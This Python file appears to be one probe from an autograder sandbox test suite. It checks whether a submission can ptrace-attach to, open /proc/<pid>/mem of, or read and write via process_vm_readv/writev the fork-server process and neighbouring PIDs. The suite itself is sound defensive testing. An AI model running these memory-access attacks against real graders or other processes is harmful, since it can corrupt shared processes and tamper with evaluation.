"""A debugger on the process that all others come from.

Who may debug a process may change its memory. The process from which every submission is forked runs as the same user as they
do: what is written into it, every later student inherits, and the grader as well if it is in reach. The attack tries to attach
to it, to read and write its memory in two ways, and to be debugged itself.
"""
# seen: nobody to debug
# layer: walls

# %% attack
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, DETACH, ALL = 0x4206, 0x4207, 17, 0x40000000
READ, WRITE = (310, 311) if platform.machine() == "x86_64" else (270, 271)


class Piece(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def attempt(pid):
    if libc.ptrace(SEIZE, pid, None, None) == 0:
        escaped(f"process {pid} can be debugged")
        libc.ptrace(INTERRUPT, pid, None, None)
        os.waitpid(pid, ALL)  # it can be let go only while it stands still
        libc.ptrace(DETACH, pid, None, None)
    for how in ("rb", "r+b"):
        try:
            open(f"/proc/{pid}/mem", how).close()
            escaped(f"the memory of process {pid} is open")
        except OSError:
            pass
    word = ctypes.create_string_buffer(b"found", 16)
    here, there = Piece(ctypes.addressof(word), 5), Piece(id(None), 5)
    for call in (READ, WRITE):
        if libc.syscall(call, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            escaped(f"the memory of process {pid} is in reach")
            break


def mischief():
    others = {place["victim"]}
    if os.getpid() == 1:  # elsewhere one is enough: nobody's own processes are to be harmed
        others |= {place["pid"], os.getppid(), 2, 3, *range(place["pid"] - 3, place["pid"] + 30)}
    for pid in sorted(others):
        attempt(pid)
    child = os.fork()
    if not child:
        os._exit(libc.ptrace(0, 0, None, None) & 0xFF)
    print("nobody to debug; to be debugged myself:", os.waitpid(child, 0)[1] >> 8)
